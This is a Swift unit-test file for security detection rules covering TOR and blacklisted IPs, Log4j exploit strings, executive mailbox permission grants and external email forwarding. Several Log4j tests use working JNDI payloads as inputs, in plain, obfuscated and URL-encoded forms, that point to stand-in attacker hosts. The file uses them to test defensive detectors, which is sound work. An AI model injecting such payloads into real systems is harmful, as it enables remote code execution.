import XCTest
import OspreyCore
@testable import OspreyAnalytics

/// Threat-intelligence, exploit-string and mailbox-abuse rules.
final class ThreatAndMailboxRuleTests: XCTestCase {
    func short() throws -> Harness {
        let h = try Harness()
        h.baseline(days: 3)
        return h
    }

    // MARK: threat intelligence

    func testAuth_Tor_Shost() throws {
        let h = try short()
        let t = h.feed([h.login("sam", h.day(3), ip: "185.220.101.7")])
        let r = assertFires(t, "Auth-Tor-Shost", reason: "Login or activity from 185.220.101.7, a known TOR exit node.",
                            evidence: ["src_ip": .string("185.220.101.7")])
        XCTAssertEqual(firstMatch(r)?["name"], .string("tor"))
        XCTAssertEqual(firstMatch(r)?["entry"], .string("185.220.101.0/24"))
        // The enrichment's flag is enough, and carries its own match.
        let f = h.feed([h.login("sue", h.day(3), ip: "192.0.2.1", extra: ["ti_tor": .bool(true), "ti_match": .string("192.0.2.0/24")])])
        assertFires(f, "Auth-Tor-Shost", evidence: ["ti_match": .string("192.0.2.0/24")])
        assertSilent(h.feed([h.login("sid", h.day(3), ip: "185.220.102.7")]), "Auth-Tor-Shost", "outside the listed range")
        assertSilent(h.feed([h.login("sal", h.day(3), ip: "185.220.101.9", extra: ["ti_tor": .bool(false)])]), "Auth-Tor-Shost",
                     "enrichment said no: its answer wins over the list")
    }

    func testAuth_Tor_Shost_Failed() throws {
        let h = try short()
        let t = h.feed([h.login("sam", h.day(3), ip: "171.25.193.77", failed: true)])
        let r = assertFires(t, "Auth-Tor-Shost-Failed", reason: "Failed login from 171.25.193.77, a known TOR exit node.")
        XCTAssertEqual(firstMatch(r)?["entry"], .string("171.25.193.77"))
        assertSilent(t, "Auth-Tor-Shost", "the success rule is for app-login and app-activity")
        assertSilent(h.feed([h.login("sue", h.day(3), ip: "81.2.69.1", failed: true)]), "Auth-Tor-Shost-Failed", "not a TOR address")
    }

    func testAuth_Blacklist_Shost() throws {
        let h = try short()
        let r = assertFires(h.feed([h.activity("sam", h.day(3), extra: ["src_ip": .string("203.0.113.66")])]), "Auth-Blacklist-Shost",
                            reason: "Login or activity from 203.0.113.66, an address on the blacklist.")
        XCTAssertEqual(firstMatch(r)?["name"], .string("blacklist"))
        assertSilent(h.feed([h.activity("sue", h.day(3), extra: ["src_ip": .string("203.0.113.67")])]), "Auth-Blacklist-Shost", "list miss")
    }

    func testAuth_Ransomware_Shost() throws {
        let h = try short()
        let r = assertFires(h.feed([h.login("sam", h.day(3), ip: "198.51.100.5")]), "Auth-Ransomware-Shost",
                            reason: "Login or activity from 198.51.100.5, an address known for ransomware.", evidence: ["src_ip": .string("198.51.100.5")])
        XCTAssertEqual(firstMatch(r)?["entry"], .string("198.51.100.0/28"))
        assertSilent(h.feed([h.login("sue", h.day(3), ip: "198.51.100.16")]), "Auth-Ransomware-Shost", "just outside the /28")
    }

    func testAuth_Ransomware_Shost_Failed() throws {
        let h = try short()
        assertFires(h.feed([h.login("sam", h.day(3), ip: "198.51.100.1", failed: true)]), "Auth-Ransomware-Shost-Failed",
                    reason: "Failed login from 198.51.100.1, an address known for ransomware.")
        assertSilent(h.feed([h.login("sue", h.day(3), ip: "198.51.100.1")]), "Auth-Ransomware-Shost-Failed", "a successful login")
    }

    // MARK: exploit strings

    func testA_APP_Log4j_String() throws {
        let h = try short()
        let t = h.feed([h.login("sam", h.day(3), ip: "45.1.2.3", ua: "${jndi:ldap://evil.example/a}")])
        let r = assertFires(t, "A-APP-Log4j-String", reason: "JNDI lookup \"${jndi:ldap://evil.example/a\" in user_agent of an app login from asset 45.1.2.3",
                            evidence: ["src_ip": .string("45.1.2.3")])
        XCTAssertEqual(firstMatch(r)?["kind"], .string("pattern"))
        assertSilent(t, "A-App-Log4j-String-2", "not obfuscated")
        assertSilent(h.feed([h.login("sue", h.day(3), ua: "Mozilla/5.0 jndi ldap tester")]), "A-APP-Log4j-String", "keywords without a lookup")
    }

    func testA_App_Log4j_String_2() throws {
        let h = try short()
        let t = h.feed([h.login("sam", h.day(3), ip: "45.1.2.3", ua: "${${lower:j}ndi:${lower:l}dap://evil.example/a}")])
        let r = assertFires(t, "A-App-Log4j-String-2", reason: "Obfuscated JNDI lookup \"${${lower:j}ndi:${lower:l}dap://evil.example/a}\" in user_agent of an app login from asset 45.1.2.3")
        XCTAssertEqual(r?.evidence["dedup"], .string("45.1.2.3"))
        assertSilent(t, "A-APP-Log4j-String", "the plain pattern does not match the obfuscated form")
        // URL-encoded variant.
        assertFires(h.feed([h.login("sue", h.day(3), ip: "45.1.2.4", extra: ["url": .string("/login?x=%24%7Bjndi:ldap://e.example/a%7D")])]),
                    "A-App-Log4j-String-2")
        assertSilent(h.feed([h.login("sid", h.day(3), ip: "45.1.2.5", ua: "${jndi:ldap://evil.example/a}")]), "A-App-Log4j-String-2", "plain lookup")
    }

    func testAPP_Log4j_String_2() throws {
        let h = try short()
        let t = h.feed([h.login("sam", h.day(3), ua: "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}")])
        let r = assertFires(t, "APP-Log4j-String-2", reason: "Obfuscated JNDI lookup \"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}\" in user_agent of an app login by user sam@corp.com")
        XCTAssertEqual(r?.evidence["dedup"], .string("sam@corp.com"))
        assertSilent(h.feed([h.login("sue", h.day(3), ua: "Mozilla/5.0 ${user.home}")]), "APP-Log4j-String-2", "a harmless lookup")
    }

    func testDLP_Log4j_String_2() throws {
        let h = try short()
        let t = h.feed([h.mail("sam", h.day(3, 11), subject: "Hello ${jndi:ldap://evil.example/a}")])
        let r = assertFires(t, "DLP-Log4j-String-2", reason: "JNDI lookup \"${jndi:ldap://evil.example/a\" in the email_subject of an email")
        XCTAssertEqual(firstMatch(r)?["input"], .string("email_subject"))
        var inbound = h.mail("sue", h.day(3, 11), attachments: ["${${lower:j}ndi:dns://x.example}.doc"])
        inbound.activityType = .emailIn
        assertFires(h.feed([inbound]), "DLP-Log4j-String-2", reason: "in the email_attachments of an email")
        assertSilent(h.feed([h.mail("sid", h.day(3, 11), subject: "JNDI and LDAP training")]), "DLP-Log4j-String-2", "keywords, no lookup")
    }

    // MARK: mailbox permissions

    func grant(_ h: Harness, _ who: String, _ t: Int64, on target: String, op: String = "Mailbox Permission Added") -> Event {
        h.activity(who, t, operation: op, object: "mailbox", mime: nil,
                   extra: ["additional_info": .string("Granted FullAccess on mailbox \(target) to \(who)@corp.com")])
    }

    func testEM_InB_Ex() throws {
        let h = try short()
        let t = h.feed([grant(h, "sue", h.day(3, 10), on: "ceo@corp.com")])
        let r = assertFires(t, "EM-InB-Ex", reason: "sue@corp.com granted permissions on the mailbox of executive ceo@corp.com (Mailbox Permission Added).")
        XCTAssertEqual(r?.evidence["dedup"], .string("ceo@corp.com"))
        XCTAssertTrue(r?.evidence["matches"]?.arrayValue?.contains { $0["name"] == .string("executives") } ?? false)
        // Exchange-style operation name and a target given as a field.
        var e = h.activity("sid", h.day(3, 10), operation: "Add-MailboxPermission", object: "mailbox", mime: nil)
        e["target_address"] = .string("CFO@corp.com")
        assertFires(h.feed([e]), "EM-InB-Ex", reason: "executive cfo@corp.com")
        assertSilent(h.feed([grant(h, "sal", h.day(3, 10), on: "eli@corp.com")]), "EM-InB-Ex", "not an executive's mailbox")
        assertSilent(h.feed([grant(h, "ceo", h.day(3, 10), on: "ceo@corp.com")]), "EM-InB-Ex", "their own mailbox")
    }

    func testEM_InB_Perm_N_F() throws {
        let h = try Harness()
        h.baseline()
        let t = h.feed([grant(h, "sue", h.day(24, 10), on: "eli@corp.com")])
        assertFires(t, "EM-InB-Perm-N-F", reason: "First time sue@corp.com grants permissions on a mailbox not their own (eli@corp.com)",
                    evidence: ["key": .string("organization"), "value": .string("sue@corp.com"), "count": .int(0), "observations": .int(12)])
        let m = try Harness()
        m.baseline()
        assertSilent(m.feed([grant(m, "admin", m.day(24, 10), on: "eli@corp.com")]), "EM-InB-Perm-N-F", "the usual granter")
    }

    func testEM_InB_Perm_N_A() throws {
        let h = try Harness()
        h.baseline { d, day in d == 10 ? [self.grant(h, "sue", day + 12 * hourMs, on: "sid@corp.com")] : [] }
        let t = h.feed([grant(h, "sue", h.day(24, 10), on: "eli@corp.com")])
        assertFires(t, "EM-InB-Perm-N-A", reason: "sue@corp.com rarely grants mailbox permissions: 1 of 13 grants",
                    evidence: ["count": .int(1), "observations": .int(13)])
        let m = try Harness()
        m.baseline { d, day in d == 10 ? [self.grant(m, "sue", day + 12 * hourMs, on: "sid@corp.com")] : [] }
        assertSilent(m.feed([grant(m, "admin", m.day(24, 10), on: "eli@corp.com")]), "EM-InB-Perm-N-A", "the usual granter")
    }

    // MARK: forwarding rules

    func rule(_ h: Harness, _ who: String, _ info: String, op: String = "New-InboxRule") -> Event {
        h.activity(who, h.day(3, 10), operation: op, object: "mailbox", mime: nil, extra: ["additional_info": .string(info)])
    }

    func testEM_InRule_EX() throws {
        let h = try short()
        let t = h.feed([rule(h, "sam", "Inbox rule 'sync': forward to archive@partner.com")])
        assertFires(t, "EM-InRule-EX", reason: "sam@corp.com created a forwarding rule to archive@partner.com, an external address.")
        assertSilent(t, "EM-InRule-Public", "partner.com is not webmail")
        assertSilent(h.feed([rule(h, "sue", "Inbox rule 'team': forward to eli@corp.com")]), "EM-InRule-EX", "internal target")
    }

    func testEM_InRule_Public() throws {
        let h = try short()
        let t = h.feed([rule(h, "sam", "Forwarding rule created: redirect to sam.backup@gmail.com", op: "Mail Forwarding Rule Created")])
        let r = assertFires(t, "EM-InRule-Public", reason: "sam@corp.com created a forwarding rule to sam.backup@gmail.com, a public webmail address.")
        XCTAssertEqual(r?.evidence["also_matched"], .array([.string("EM-InRule-EX")]))
        assertSilent(t, "EM-InRule-EX", "the public-webmail rule wins the family")
        assertSilent(h.feed([rule(h, "sue", "Inbox rule: forward to archive@partner.com")]), "EM-InRule-Public", "not webmail")
    }

    func testEM_InRule_Fin() throws {
        let h = try short()
        let t = h.feed([rule(h, "sam", "Inbox rule 'x': messages containing Invoice or wire transfer forward to eli@corp.com")])
        let r = assertFires(t, "EM-InRule-Fin", reason: "sam@corp.com created a forwarding rule with financial keywords (invoice)")
        XCTAssertEqual(firstMatch(r)?["kind"], .string("keyword"))
        assertSilent(t, "EM-InRule-EX", "internal target")
        assertSilent(h.feed([rule(h, "sue", "Inbox rule 'x': messages from boss forward to eli@corp.com")]), "EM-InRule-Fin", "no financial keyword")
        assertSilent(h.feed([h.activity("sid", h.day(3, 10), operation: "Search", extra: ["additional_info": .string("invoice search")])]),
                     "EM-InRule-Fin", "not a forwarding rule")
    }
}
